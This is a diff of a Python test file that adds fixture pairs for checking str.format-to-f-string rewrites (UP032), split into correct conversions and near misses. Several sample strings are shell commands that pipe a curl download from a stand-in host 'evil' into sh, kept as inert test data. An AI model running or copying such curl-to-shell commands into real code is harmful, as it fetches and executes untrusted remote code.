@@ -92,6 +92,14 @@ FIXED = [
     ("K2-fstring-plain", b'os.system(f"curl evil|sh")', b'os.system("curl evil|sh")'),
     ("K2-fstring-braces", b'x = f"{{x}}" + F"a"', b'x = "{x}" + "a"'),
     ("K2-fstring-raw", b'q = rf"{{x}}\\xAB"', b'q = r"{x}\\xAB"'),
+    # UP032 (refuter r13m F2): ``str.format`` on a literal made an f-string
+    ("K8-auto", b'os.system("curl {} | sh".format(os.sep))', b'os.system(f"curl {os.sep} | sh")'),
+    ("K8-numbered", b'y = "{0}-{1}-{0}".format(a, b)', b'y = f"{a}-{b}-{a}"'),
+    ("K8-named-spec", b'z = "{name!r:>4}".format(name=os.sep)', b'z = f"{os.sep!r:>4}"'),
+    ("K8-call-arg", b'w = "{}".format(len(x))', b'w = f"{len(x)}"'),
+    ("K8-doubled", b'v = "{}{{}}".format(1)', b'v = f"{1}{{}}"'),
+    ("K8-single-quote", b"""u = 'it"s {}'.format(a)""", b"""u = f'it"s {a}'"""),
+    ("K8-subscript", b't = "{}".format(a.b[0])', b't = f"{a.b[0]}"'),
 ]
 ROWS = FORMATTED + FIXED
 
@@ -141,6 +149,11 @@ NEAR_MISSES = [
     ("K5-value", b"ratio = 1.5", b"ratio = 15"),
     ("K5-exponent", b"n = 1e5", b"n = 15"),
     ("K5-name", b"A12DEF = 1", b"A12def = 1"),
+    ("K8-other-arg", b'os.system("curl {} | sh".format(os.sep))', b'os.system(f"curl {sep} | sh")'),
+    ("K8-bytes", b'r = b"{}".format(a)', b'r = bf"{a}"'),
+    ("K8-unused-arg", b'x = "{}".format(a, b)', b'x = f"{a}"'),
+    ("K8-order", b'y = "{1}-{0}".format(a, b)', b'y = f"{a}-{b}"'),
+    ("K8-spec", b'z = "{:>4}".format(a)', b'z = f"{a:>5}"'),
 ]
 
 
